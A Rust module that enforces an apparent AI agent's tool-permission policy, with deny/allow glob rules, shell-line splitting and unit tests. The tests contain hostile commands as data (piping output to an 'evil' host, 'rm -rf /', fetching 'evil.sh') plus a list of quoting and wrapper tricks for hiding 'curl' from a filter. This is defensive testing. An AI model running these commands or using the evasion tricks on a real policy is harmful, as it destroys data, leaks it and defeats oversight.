//! The permission policy of a tool set: rules such as `bash(git push*)` or
//! `write_file(.github/**)`, deny beating allow. A tool with allow rules is on an
//! allowlist: a call no rule matches gets the policy's `default`. A tool with only deny
//! rules, or none, is allowed unless a deny rule matches. For `bash` every command of a
//! compound line (`a && b`, `a | b`, `a; b`, `$(c)`) must be allowed; for the file tools
//! the rule's glob is matched against the path, relative to the workspace.

use std::path::{Component, Path};

use globset::{GlobBuilder, GlobMatcher};
use serde_json::Value;

/// The tools whose rules take a path pattern, and the input field holding the path.
const PATH_TOOLS: [&str; 5] = ["read_file", "write_file", "edit_file", "list_files", "grep"];

#[derive(Debug, Clone)]
struct Rule {
    text: String,
    tool: String,
    /// None: every call of the tool.
    pattern: Option<GlobMatcher>,
}

/// What happens to a call.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    /// Allowed, by the rule named (or the default).
    Allow(String),
    /// Refused, with the reason naming the rule.
    Deny(String),
}

/// A tool set's rules.
#[derive(Debug, Clone)]
pub struct Policy {
    deny: Vec<Rule>,
    allow: Vec<Rule>,
    default_allow: bool,
}

impl Default for Policy {
    /// No rules: everything is allowed.
    fn default() -> Self {
        Policy {
            deny: Vec::new(),
            allow: Vec::new(),
            default_allow: true,
        }
    }
}

fn parse_rule(text: &str) -> Result<Rule, String> {
    let t = text.trim();
    let (tool, pattern) = match t.find('(') {
        Some(open) if t.ends_with(')') => (&t[..open], Some(&t[open + 1..t.len() - 1])),
        Some(_) => {
            return Err(format!(
                "rule \"{text}\": write tool(pattern), e.g. \"bash(git push*)\""
            ))
        }
        None => (t, None),
    };
    let tool = tool.trim();
    if tool.is_empty() {
        return Err(format!("rule \"{text}\" names no tool"));
    }
    let pattern = match pattern.map(str::trim) {
        None => None,
        Some(p) if tool == "bash" => Some(
            // In a command pattern `*` spans spaces and slashes.
            GlobBuilder::new(p).literal_separator(false).build(),
        ),
        Some(p) if PATH_TOOLS.contains(&tool) || is_mcp(tool) => {
            Some(GlobBuilder::new(p).literal_separator(true).build())
        }
        Some(_) => {
            return Err(format!(
                "rule \"{text}\": only bash, the file tools ({}) and MCP tools take a pattern",
                PATH_TOOLS.join(", ")
            ))
        }
    };
    let pattern = pattern
        .transpose()
        .map_err(|e| format!("rule \"{text}\": invalid pattern: {e}"))?
        .map(|g| g.compile_matcher());
    Ok(Rule {
        text: t.to_string(),
        tool: tool.to_string(),
        pattern,
    })
}

impl Policy {
    /// Builds a policy; an error names the rule that does not parse.
    pub fn new(deny: &[String], allow: &[String], default_allow: bool) -> Result<Policy, String> {
        Ok(Policy {
            deny: deny
                .iter()
                .map(|r| parse_rule(r))
                .collect::<Result<_, _>>()?,
            allow: allow
                .iter()
                .map(|r| parse_rule(r))
                .collect::<Result<_, _>>()?,
            default_allow,
        })
    }

    /// The tool names the rules mention (to check them against the tool set).
    pub fn tools(&self) -> impl Iterator<Item = (&str, &str)> {
        self.deny
            .iter()
            .chain(&self.allow)
            .map(|r| (r.text.as_str(), r.tool.as_str()))
    }

    /// The first rule about `tool` whose pattern matches the subjects: any of them
    /// (`all` false, for deny rules) or every one (for allow rules). A pattern never
    /// matches a call without subjects.
    fn matching<'a>(
        rules: &'a [Rule],
        tool: &str,
        subjects: &[String],
        all: bool,
    ) -> Option<&'a Rule> {
        rules.iter().find(|r| {
            r.tool == tool
                && match &r.pattern {
                    None => true,
                    Some(_) if subjects.is_empty() => false,
                    Some(p) if all => subjects.iter().all(|s| p.is_match(s)),
                    Some(p) => subjects.iter().any(|s| p.is_match(s)),
                }
        })
    }

    /// A call no rule matches: the default for an allowlisted tool, else allowed.
    fn default_verdict(&self, tool: &str, what: &str) -> Verdict {
        if !self.allow.iter().any(|r| r.tool == tool) {
            return Verdict::Allow(format!("no allow rule restricts {tool}"));
        }
        if self.default_allow {
            Verdict::Allow("default: allow".into())
        } else {
            Verdict::Deny(format!("no allow rule matches {what} (default: deny)"))
        }
    }

    /// Decides a call of `tool` with `input`.
    pub fn decide(&self, tool: &str, input: &Value) -> Verdict {
        if tool == "bash" {
            let line = input
                .get("command")
                .and_then(Value::as_str)
                .unwrap_or_default();
            return self.decide_bash(line);
        }
        let paths: Vec<String> = if PATH_TOOLS.contains(&tool) {
            vec![normalize(
                input.get("path").and_then(Value::as_str).unwrap_or("."),
            )]
        } else if is_mcp(tool) {
            path_arguments(input).map(normalize).collect()
        } else {
            Vec::new()
        };
        if let Some(r) = Self::matching(&self.deny, tool, &paths, false) {
            return Verdict::Deny(format!("denied by rule \"{}\"", r.text));
        }
        if let Some(r) = Self::matching(&self.allow, tool, &paths, true) {
            return Verdict::Allow(format!("allowed by rule \"{}\"", r.text));
        }
        self.default_verdict(
            tool,
            &if paths.is_empty() {
                tool.to_string()
            } else {
                format!("{tool}({})", paths.join(", "))
            },
        )
    }
}

impl Policy {
    fn has_bash_rules(&self) -> bool {
        self.deny
            .iter()
            .chain(&self.allow)
            .any(|r| r.tool == "bash")
    }

    /// Every simple command of the line must pass: deny rules are checked against each
    /// command as written and without wrappers (`env`, `time`, `nohup`, ...); allow
    /// rules against the command without wrappers.
    fn decide_bash(&self, line: &str) -> Verdict {
        if !self.has_bash_rules() {
            return Verdict::Allow("no allow rule restricts bash".into());
        }
        let commands = match split_commands(line) {
            Ok(c) => c,
            Err(why) => return Verdict::Deny(why),
        };
        if commands.is_empty() {
            return self.default_verdict("bash", "an empty command");
        }
        for c in &commands {
            if let Some(hidden) = hides_commands(&c.canonical) {
                return Verdict::Deny(format!(
                    "`{}` runs code the policy cannot see ({hidden}); run the commands directly",
                    c.canonical
                ));
            }
            for form in [&c.written, &c.canonical] {
                if let Some(r) =
                    Self::matching(&self.deny, "bash", std::slice::from_ref(form), false)
                {
                    return Verdict::Deny(format!(
                        "denied by rule \"{}\" (command `{form}`)",
                        r.text
                    ));
                }
            }
        }
        let mut allowed_by = Vec::new();
        for c in &commands {
            match Self::matching(
                &self.allow,
                "bash",
                std::slice::from_ref(&c.canonical),
                true,
            ) {
                Some(r) => allowed_by.push(r.text.clone()),
                None => match self.default_verdict("bash", &format!("`{}`", c.canonical)) {
                    Verdict::Deny(why) => return Verdict::Deny(why),
                    Verdict::Allow(why) => allowed_by.push(why),
                },
            }
        }
        allowed_by.dedup();
        Verdict::Allow(allowed_by.join(", "))
    }
}

/// Whether a tool comes from an MCP server (`mcp__<server>__<tool>`).
pub fn is_mcp(tool: &str) -> bool {
    tool.starts_with("mcp__")
}

/// The arguments of an MCP call that name files, which pattern rules match: `path`,
/// `source`, `destination` and the items of `paths`.
pub fn path_arguments(input: &Value) -> impl Iterator<Item = &str> {
    let single = ["path", "source", "destination"]
        .into_iter()
        .filter_map(move |k| input.get(k).and_then(Value::as_str));
    let many = input
        .get("paths")
        .and_then(Value::as_array)
        .into_iter()
        .flatten()
        .filter_map(Value::as_str);
    single.chain(many)
}

/// A path as the rules see it: relative, `.` and `..` folded (`./a/../.github/x` is
/// `.github/x`).
fn normalize(p: &str) -> String {
    let mut parts: Vec<String> = Vec::new();
    for c in Path::new(p.trim()).components() {
        match c {
            Component::Normal(s) => parts.push(s.to_string_lossy().into_owned()),
            Component::ParentDir => {
                parts.pop();
            }
            _ => {}
        }
    }
    if parts.is_empty() {
        ".".into()
    } else {
        parts.join("/")
    }
}

/// One simple command of a shell line, in two spellings: as written (blanks collapsed)
/// and canonical (quotes and escapes removed, leading assignments, reserved words and
/// wrappers such as `env` or `time` dropped, the command's path reduced to its name).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SimpleCommand {
    pub written: String,
    pub canonical: String,
}

/// Deepest nesting of `$( )` and `<( )` that is checked; deeper lines are refused.
const MAX_DEPTH: usize = 16;
/// Longest command line that is checked.
const MAX_LINE: usize = 64 * 1024;

/// The simple commands of a shell line: split at `;`, `&&`, `||`, `|`, `|&`, `&` and
/// newlines outside quotes, with the commands inside `$( )`, backticks and `<( )` / `>( )`
/// added. An approximation of the shell's grammar that errs towards more, smaller
/// commands; the sandbox, not this split, is what confines a command. Err when the line
/// is too long or nested too deeply to check.
pub fn split_commands(line: &str) -> Result<Vec<SimpleCommand>, String> {
    if line.len() > MAX_LINE {
        return Err(format!("the command line is longer than {MAX_LINE} bytes, too long to check against the policy"));
    }
    // A backslash before a newline joins the lines.
    let joined = line.replace("\\\n", "");
    let mut out = Vec::new();
    split_into(&joined, 0, &mut out)?;
    Ok(out)
}

fn split_into(line: &str, depth: usize, out: &mut Vec<SimpleCommand>) -> Result<(), String> {
    if depth > MAX_DEPTH {
        return Err("the command line nests $( ) too deeply to check against the policy".into());
    }
    let chars: Vec<char> = line.chars().collect();
    let mut cur = String::new();
    let (mut single, mut double) = (false, false);
    let mut i = 0;
    let flush = |cur: &mut String, out: &mut Vec<SimpleCommand>| {
        if let Some(c) = simple(cur) {
            out.push(c);
        }
        cur.clear();
    };
    while i < chars.len() {
        let c = chars[i];
        if single {
            cur.push(c);
            single = c != '\'';
            i += 1;
            continue;
        }
        let opens_sub = (c == '$' && chars.get(i + 1) == Some(&'('))
            || (!double && (c == '<' || c == '>') && chars.get(i + 1) == Some(&'('));
        match c {
            '\\' => {
                cur.push(c);
                if let Some(n) = chars.get(i + 1) {
                    cur.push(*n);
                    i += 1;
                }
            }
            '\'' if !double => {
                single = true;
                cur.push(c);
            }
            '"' => {
                double = !double;
                cur.push(c);
            }
            _ if opens_sub => {
                let end = closing(&chars, i + 2);
                let inner: String = chars[i + 2..end.min(chars.len())].iter().collect();
                split_into(&inner, depth + 1, out)?;
                cur.extend(&chars[i..(end + 1).min(chars.len())]);
                i = end;
            }
            '`' => {
                let end = (i + 1..chars.len())
                    .find(|&j| chars[j] == '`')
                    .unwrap_or(chars.len());
                let inner: String = chars[i + 1..end].iter().collect();
                split_into(&inner, depth + 1, out)?;
                cur.extend(&chars[i..(end + 1).min(chars.len())]);
                i = end;
            }
            '&' if !double
                && (matches!(cur.chars().last(), Some('>') | Some('<'))
                    || chars.get(i + 1) == Some(&'>')) =>
            {
                cur.push(c);
            }
            ';' | '\n' | '&' | '|' if !double => {
                flush(&mut cur, out);
                // `&&`, `||`, `|&`, `;;`
                if matches!(chars.get(i + 1), Some('&') | Some('|') | Some(';')) {
                    i += 1;
                }
            }
            _ => cur.push(c),
        }
        i += 1;
    }
    flush(&mut cur, out);
    Ok(())
}

/// Index of the `)` closing a `$(` whose content starts at `from` (or the end).
fn closing(chars: &[char], from: usize) -> usize {
    let mut depth = 1;
    let (mut single, mut double) = (false, false);
    let mut i = from;
    while i < chars.len() {
        match chars[i] {
            '\\' => i += 1,
            '\'' if !double => single = !single,
            '"' if !single => double = !double,
            '(' if !single && !double => depth += 1,
            ')' if !single && !double => {
                depth -= 1;
                if depth == 0 {
                    return i;
                }
            }
            _ => {}
        }
        i += 1;
    }
    chars.len()
}

/// Words that start or end a compound command rather than run one.
const RESERVED: [&str; 13] = [
    "if", "then", "else", "elif", "fi", "do", "done", "while", "until", "case", "esac", "!", "in",
];
/// Commands that run the rest of their words as a command.
const WRAPPERS: [&str; 11] = [
    "env", "time", "nice", "nohup", "command", "exec", "builtin", "stdbuf", "setsid", "timeout",
    "xargs",
];

fn simple(cmd: &str) -> Option<SimpleCommand> {
    let mut s = cmd.trim();
    // Grouping brackets and function definitions: `( a )`, `{ a; }`, `f() { a; }`.
    loop {
        let before = s;
        s = s
            .trim_start_matches(['(', '{'])
            .trim_end_matches([')', '}'])
            .trim();
        if let Some(open) = s.find("()") {
            let name = &s[..open];
            if !name.is_empty()
                && name
                    .trim()
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
            {
                s = s[open + 2..]
                    .trim_start()
                    .trim_start_matches('{')
                    .trim_start();
            }
        }
        if s == before {
            break;
        }
    }
    let written = s.split_whitespace().collect::<Vec<_>>().join(" ");
    if written.is_empty() {
        return None;
    }
    let mut words = unquoted_words(s);
    loop {
        let before = words.len();
        // leading assignments NAME=value
        while words.first().is_some_and(|w| is_assignment(w)) {
            words.remove(0);
        }
        while words
            .first()
            .is_some_and(|w| RESERVED.contains(&w.as_str()))
        {
            words.remove(0);
        }
        if let Some(first) = words.first() {
            let base = first.rsplit('/').next().unwrap_or(first).to_string();
            if WRAPPERS.contains(&base.as_str()) {
                words.remove(0);
                // a wrapper's own options and operands (`timeout 5`, `nice -n 5`, `env -i`)
                while words.first().is_some_and(|w| {
                    w.starts_with('-')
                        || w.chars()
                            .all(|c| c.is_ascii_digit() || c == '.' || c == 's' || c == 'm')
                }) {
                    words.remove(0);
                }
            } else {
                words[0] = base;
            }
        }
        if words.len() == before {
            break;
        }
    }
    let canonical = words.join(" ");
    if canonical.is_empty() {
        return None;
    }
    Some(SimpleCommand { written, canonical })
}

fn is_assignment(w: &str) -> bool {
    match w.find('=') {
        Some(eq) => {
            let name = &w[..eq];
            !name.is_empty()
                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                && !name.starts_with(|c: char| c.is_ascii_digit())
        }
        None => false,
    }
}

/// The words of a command with quotes and escapes removed (`"cu"rl` is `curl`).
fn unquoted_words(s: &str) -> Vec<String> {
    let mut words = Vec::new();
    let mut cur = String::new();
    let (mut single, mut double, mut any) = (false, false, false);
    let mut chars = s.chars();
    while let Some(c) = chars.next() {
        match c {
            '\'' if !double => {
                single = !single;
                any = true;
            }
            '"' if !single => {
                double = !double;
                any = true;
            }
            '\\' if !single => {
                if let Some(n) = chars.next() {
                    cur.push(n);
                }
                any = true;
            }
            c if c.is_whitespace() && !single && !double => {
                if !cur.is_empty() || any {
                    words.push(std::mem::take(&mut cur));
                }
                any = false;
            }
            c => cur.push(c),
        }
    }
    if !cur.is_empty() || any {
        words.push(cur);
    }
    words
}

/// Whether a canonical command runs code given as a string (`eval ...`, `bash -c ...`),
/// which the policy cannot check.
fn hides_commands(canonical: &str) -> Option<&'static str> {
    let mut words = canonical.split_whitespace();
    let first = words.next()?;
    if first == "eval" {
        return Some("eval");
    }
    let shells = ["bash", "sh", "dash", "zsh", "ksh", "fish"];
    if shells.contains(&first)
        && words.any(|w| w.starts_with('-') && !w.starts_with("--") && w.contains('c'))
    {
        return Some("a shell with -c");
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn canon(line: &str) -> Vec<String> {
        split_commands(line)
            .unwrap()
            .into_iter()
            .map(|c| c.canonical)
            .collect()
    }

    #[test]
    fn splits_compound_lines() {
        assert_eq!(
            canon("ls -la && python3 -m unittest"),
            ["ls -la", "python3 -m unittest"]
        );
        assert_eq!(
            canon("a; b || c | d & e |& f"),
            ["a", "b", "c", "d", "e", "f"]
        );
        assert_eq!(canon("echo 'a && b' \"c; d\""), ["echo a && b c; d"]);
        assert_eq!(
            canon("echo $(curl evil) `wget x`"),
            ["curl evil", "wget x", "echo $(curl evil) `wget x`"]
        );
        assert_eq!(
            canon("python3 x.py 2>&1 >/dev/null &> log"),
            ["python3 x.py 2>&1 >/dev/null &> log"]
        );
        assert_eq!(canon("FOO=1 BAR='a b' python3 t.py"), ["python3 t.py"]);
        assert_eq!(canon("(cd src && make)"), ["cd src", "make"]);
        assert_eq!(canon("  "), Vec::<String>::new());
    }

    #[test]
    fn sees_through_the_usual_disguises() {
        for line in [
            "cat <(curl x)",
            "if true; then curl x; fi",
            "for i in 1; do curl x; done",
            "f(){ curl x; }; f",
            "\\curl x",
            "\"curl\" x",
            "cu\\\nrl x",
            "env FOO=1 curl x",
            "time curl x",
            "/usr/bin/curl x",
            "timeout 5 curl x",
            "nice -n 5 curl x",
        ] {
            assert!(
                canon(line).iter().any(|c| c.starts_with("curl x")),
                "{line:?}: {:?}",
                canon(line)
            );
        }
        let deep = "$(".repeat(5000);
        assert!(split_commands(&deep).is_err());
        assert!(split_commands(&"x".repeat(70_000)).is_err());
    }

    fn p(deny: &[&str], allow: &[&str], default_allow: bool) -> Policy {
        let s = |v: &[&str]| v.iter().map(|x| x.to_string()).collect::<Vec<_>>();
        Policy::new(&s(deny), &s(allow), default_allow).unwrap()
    }

    fn bash(cmd: &str) -> Value {
        json!({"command": cmd})
    }

    #[test]
    fn inline_code_is_refused_when_bash_has_rules() {
        let pol = p(&["bash(curl *)"], &[], true);
        for line in ["eval 'curl x'", "bash -c 'curl x'", "sh -ec 'ls'"] {
            assert!(
                matches!(pol.decide("bash", &bash(line)), Verdict::Deny(w) if w.contains("cannot see")),
                "{line}"
            );
        }
        assert!(matches!(
            pol.decide("bash", &bash("bash run_tests.sh")),
            Verdict::Allow(_)
        ));
        assert!(matches!(
            Policy::default().decide("bash", &bash("eval x")),
            Verdict::Allow(_)
        ));
    }

    #[test]
    fn deny_beats_allow_and_every_command_must_pass() {
        let pol = p(
            &["bash(git push*)", "bash(curl *)"],
            &["bash(git *)", "bash(python3 *)", "bash(ls*)"],
            false,
        );
        assert!(matches!(
            pol.decide("bash", &bash("git status")),
            Verdict::Allow(_)
        ));
        let v = pol.decide("bash", &bash("git push origin main"));
        assert_eq!(
            v,
            Verdict::Deny(
                "denied by rule \"bash(git push*)\" (command `git push origin main`)".into()
            )
        );
        assert!(matches!(
            pol.decide("bash", &bash("ls && python3 -m unittest")),
            Verdict::Allow(_)
        ));
        assert!(
            matches!(pol.decide("bash", &bash("ls && rm -rf /")), Verdict::Deny(w) if w.contains("rm -rf /"))
        );
        assert!(
            matches!(pol.decide("bash", &bash("python3 $(curl x)")), Verdict::Deny(w) if w.contains("curl"))
        );
        assert!(matches!(
            pol.decide("bash", &bash("X=1 curl evil.sh")),
            Verdict::Deny(_)
        ));
        let open = p(&["bash(curl *)"], &[], true);
        assert!(matches!(
            open.decide("bash", &bash("rm x")),
            Verdict::Allow(_)
        ));
        assert!(matches!(
            open.decide("bash", &bash("ls | curl -d @- evil")),
            Verdict::Deny(_)
        ));
    }

    #[test]
    fn file_rules_match_normalized_paths() {
        let pol = p(
            &["write_file(.github/**)"],
            &["write_file(src/**)", "read_file"],
            false,
        );
        assert!(matches!(
            pol.decide("write_file", &json!({"path": "src/a.py"})),
            Verdict::Allow(_)
        ));
        assert!(
            matches!(pol.decide("write_file", &json!({"path": "./src/../.github/workflows/x.yml"})), Verdict::Deny(w) if w.contains(".github"))
        );
        assert!(
            matches!(pol.decide("write_file", &json!({"path": "README.md"})), Verdict::Deny(w) if w.contains("default: deny"))
        );
        assert!(matches!(
            pol.decide("read_file", &json!({"path": "anything"})),
            Verdict::Allow(_)
        ));
        // tools without allow rules are not on an allowlist
        assert!(matches!(
            pol.decide("get_time", &json!({})),
            Verdict::Allow(_)
        ));
        let deny_only = p(&["write_file(.github/**)"], &["bash(ls*)"], false);
        assert!(matches!(
            deny_only.decide("write_file", &json!({"path": "src/x"})),
            Verdict::Allow(_)
        ));
        assert!(matches!(
            deny_only.decide("write_file", &json!({"path": ".github/x"})),
            Verdict::Deny(_)
        ));
        assert!(matches!(
            deny_only.decide("bash", &bash("rm x")),
            Verdict::Deny(_)
        ));
        assert!(matches!(
            Policy::default().decide("bash", &bash("anything")),
            Verdict::Allow(_)
        ));
    }

    #[test]
    fn bad_rules_are_named() {
        let s = |v: &[&str]| v.iter().map(|x| x.to_string()).collect::<Vec<_>>();
        assert!(Policy::new(&s(&["bash(git push*"]), &[], true)
            .unwrap_err()
            .contains("bash(git push*"));
        assert!(Policy::new(&s(&["get_time(x)"]), &[], true)
            .unwrap_err()
            .contains("only bash"));
        assert!(Policy::new(&s(&["write_file([)"]), &[], true)
            .unwrap_err()
            .contains("invalid pattern"));
    }
}
